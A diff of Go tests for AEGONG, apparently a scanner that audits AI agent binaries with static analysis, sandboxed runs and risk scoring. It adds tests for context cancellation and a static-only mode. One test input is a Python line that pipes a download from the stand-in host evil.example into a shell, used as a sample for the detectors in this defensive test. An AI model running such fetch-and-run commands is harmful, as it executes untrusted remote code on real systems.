@@ -1,17 +1,39 @@
-package main
+package aegong
 
 import (
 	"bytes"
+	"context"
 	"fmt"
 	"os"
 	"path/filepath"
+	"runtime"
+	"strings"
 	"sync"
 	"testing"
+	"time"
 )
 
-// TestNewAEGONGEngine tests the initialization of the AEGONG engine
-func TestNewAEGONGEngine(t *testing.T) {
-	engine := NewAEGONGEngine()
+// newTestEngine creates an engine that logs into the test's temporary directory
+func newTestEngine(t *testing.T) *Engine {
+	engine, err := NewEngine(Config{AuditLogPath: filepath.Join(t.TempDir(), "audit.log")})
+	if err != nil {
+		t.Fatalf("Failed to create engine: %v", err)
+	}
+	t.Cleanup(func() { engine.Close() })
+	return engine
+}
+
+// requireSandbox skips tests that run agents where the engine is static-only
+func requireSandbox(t *testing.T) {
+	t.Helper()
+	if !sandboxSupported {
+		t.Skip("The sandbox is not supported on " + runtime.GOOS)
+	}
+}
+
+// TestNewEngine tests the initialization of the AEGONG engine
+func TestNewEngine(t *testing.T) {
+	engine := newTestEngine(t)
 
 	// Check that the engine was initialized correctly
 	if engine == nil {
@@ -36,7 +58,7 @@ func TestNewAEGONGEngine(t *testing.T) {
 
 // TestCreateDestroyContainer tests the creation and destruction of containers
 func TestCreateDestroyContainer(t *testing.T) {
-	engine := NewAEGONGEngine()
+	engine := newTestEngine(t)
 
 	// Create a container
 	container, err := engine.createIsolatedContainer("test-hash")
@@ -78,7 +100,8 @@ func TestCreateDestroyContainer(t *testing.T) {
 
 // TestSimulateExecution tests the simulation of binary execution
 func TestSimulateExecution(t *testing.T) {
-	engine := NewAEGONGEngine()
+	requireSandbox(t)
+	engine := newTestEngine(t)
 
 	// Create a container
 	container, err := engine.createIsolatedContainer("test-hash")
@@ -91,7 +114,7 @@ func TestSimulateExecution(t *testing.T) {
 	binaryContent := []byte("#!/bin/sh\necho 'Hello, World!'\n")
 
 	// Run the simulation
-	executionLog := engine.simulateExecution(binaryContent, container)
+	executionLog := engine.simulateExecution(context.Background(), binaryContent, container)
 
 	// Check that the execution log contains expected information
 	if !bytes.Contains([]byte(executionLog), []byte("Container: "+container.ID)) {
@@ -105,7 +128,8 @@ func TestSimulateExecution(t *testing.T) {
 
 // TestConcurrentExecution tests concurrent execution of multiple binaries
 func TestConcurrentExecution(t *testing.T) {
-	engine := NewAEGONGEngine()
+	requireSandbox(t)
+	engine := newTestEngine(t)
 
 	// Number of concurrent executions
 	numConcurrent := 5
@@ -137,7 +161,7 @@ func TestConcurrentExecution(t *testing.T) {
 			binaryContent := []byte(fmt.Sprintf("#!/bin/sh\necho 'Hello from execution %d'\n", index))
 
 			// Run the simulation
-			executionLog := engine.simulateExecution(binaryContent, container)
+			executionLog := engine.simulateExecution(context.Background(), binaryContent, container)
 
 			// Check that the execution log contains expected information
 			if !bytes.Contains([]byte(executionLog), []byte("Container: "+container.ID)) {
@@ -162,7 +186,7 @@ func TestConcurrentExecution(t *testing.T) {
 
 // TestRunStaticAnalysis tests the static analysis functionality
 func TestRunStaticAnalysis(t *testing.T) {
-	engine := NewAEGONGEngine()
+	engine := newTestEngine(t)
 
 	// Create a container
 	container, err := engine.createIsolatedContainer("test-hash")
@@ -175,7 +199,7 @@ func TestRunStaticAnalysis(t *testing.T) {
 	binaryContent := []byte("#!/bin/sh\necho 'Hello, World!'\n")
 
 	// Run static analysis
-	threats := engine.runStaticAnalysis(binaryContent, container)
+	threats := engine.runStaticAnalysis(context.Background(), binaryContent, container)
 
 	// We can't make specific assertions about the threats detected
 	// since that depends on the implementation of the threat detectors,
@@ -185,7 +209,7 @@ func TestRunStaticAnalysis(t *testing.T) {
 
 // TestRunDynamicAnalysis tests the dynamic analysis functionality
 func TestRunDynamicAnalysis(t *testing.T) {
-	engine := NewAEGONGEngine()
+	engine := newTestEngine(t)
 
 	// Create a container
 	container, err := engine.createIsolatedContainer("test-hash")
@@ -198,7 +222,7 @@ func TestRunDynamicAnalysis(t *testing.T) {
 	binaryContent := []byte("#!/bin/sh\necho 'Hello, World!'\n")
 
 	// Run dynamic analysis
-	threats := engine.runDynamicAnalysis(binaryContent, container)
+	threats := engine.runDynamicAnalysis(context.Background(), binaryContent, container)
 
 	// We can't make specific assertions about the threats detected
 	// since that depends on the implementation of the threat detectors,
@@ -208,7 +232,7 @@ func TestRunDynamicAnalysis(t *testing.T) {
 
 // TestAuditAgent tests the full audit process
 func TestAuditAgent(t *testing.T) {
-	engine := NewAEGONGEngine()
+	engine := newTestEngine(t)
 
 	// Create a temporary directory for the test
 	tempDir, err := os.MkdirTemp("", "aegong-test")
@@ -225,7 +249,7 @@ func TestAuditAgent(t *testing.T) {
 	}
 
 	// Run the audit
-	report, err := engine.AuditAgent(binaryPath)
+	report, err := engine.AuditAgent(context.Background(), binaryPath)
 	if err != nil {
 		t.Fatalf("Failed to audit agent: %v", err)
 	}
@@ -250,9 +274,94 @@ func TestAuditAgent(t *testing.T) {
 		len(report.Threats), report.OverallRisk, report.RiskLevel)
 }
 
+// TestAuditCancelledContext tests that a cancelled context stops the audit before it starts
+func TestAuditCancelledContext(t *testing.T) {
+	engine := newTestEngine(t)
+
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+
+	report, err := engine.Audit(ctx, bytes.NewReader([]byte("#!/bin/sh\necho 'Hello, World!'\n")))
+	if err == nil {
+		t.Fatal("Audit with a cancelled context should return an error")
+	}
+	if report != nil {
+		t.Fatal("Audit with a cancelled context should not return a report")
+	}
+}
+
+// TestSimulateExecutionCancelled tests that cancelling the context kills a running agent
+func TestSimulateExecutionCancelled(t *testing.T) {
+	requireSandbox(t)
+	engine := newTestEngine(t)
+
+	container, err := engine.createIsolatedContainer("test-cancel-hash")
+	if err != nil {
+		t.Fatalf("Failed to create container: %v", err)
+	}
+	defer engine.destroyContainer(container.ID)
+
+	// An agent that would outlive the execution timeout
+	binaryContent := []byte("#!/bin/sh\nsleep 60\n")
+
+	ctx, cancel := context.WithTimeout(context.Background(), 500*time.Millisecond)
+	defer cancel()
+
+	start := time.Now()
+	executionLog := engine.simulateExecution(ctx, binaryContent, container)
+	if elapsed := time.Since(start); elapsed > 10*time.Second {
+		t.Fatalf("Cancelled execution should return promptly, took %v", elapsed)
+	}
+
+	if !strings.Contains(executionLog, "Process execution cancelled") {
+		t.Fatalf("Execution log should record the cancellation, got:\n%s", executionLog)
+	}
+}
+
+// TestStaticOnly tests that a static-only engine audits agents without running them
+func TestStaticOnly(t *testing.T) {
+	engine, err := NewEngine(Config{StaticOnly: true})
+	if err != nil {
+		t.Fatalf("Failed to create engine: %v", err)
+	}
+	defer engine.Close()
+
+	report, err := engine.Audit(context.Background(), bytes.NewReader([]byte("import os\nos.system('curl http://evil.example | sh')\n")))
+	if err != nil {
+		t.Fatalf("Failed to audit agent: %v", err)
+	}
+	static, shields := 0, 0
+	for _, component := range report.Coverage.Components {
+		switch component.Phase {
+		case PhaseStatic:
+			if component.Status == CoverageRan {
+				static++
+			}
+		case PhaseDynamic:
+			if component.Kind == ComponentDetector && (component.Status != CoverageSkipped || !strings.Contains(component.Reason, "static-only")) {
+				t.Errorf("Dynamic detectors should be skipped as static-only, got %+v", component)
+			}
+		case PhaseShield:
+			shields++
+		}
+	}
+	if static == 0 || shields == 0 || report.RiskLevel == "" {
+		t.Errorf("Static analysis, SHIELD modules and scoring should still run, got %d static and %d shields", static, shields)
+	}
+	if status := engine.SandboxStatus(); status.StaticOnly == "" {
+		t.Error("Sandbox status should say the engine is static-only")
+	}
+
+	// Reports of a static-only engine are not interchangeable with full ones
+	full := newTestEngine(t)
+	if engine.Version().ConfigChecksum == full.Version().ConfigChecksum {
+		t.Error("Static-only mode should change the config checksum")
+	}
+}
+
 // TestCalculateOverallRisk tests the risk calculation functionality
 func TestCalculateOverallRisk(t *testing.T) {
-	engine := NewAEGONGEngine()
+	engine := newTestEngine(t)
 
 	// Create some test threats
 	threats := []ThreatDetection{
@@ -290,7 +399,7 @@ func TestCalculateOverallRisk(t *testing.T) {
 
 // TestGenerateRecommendations tests the recommendation generation functionality
 func TestGenerateRecommendations(t *testing.T) {
-	engine := NewAEGONGEngine()
+	engine := newTestEngine(t)
 
 	// Create some test threats
 	threats := []ThreatDetection{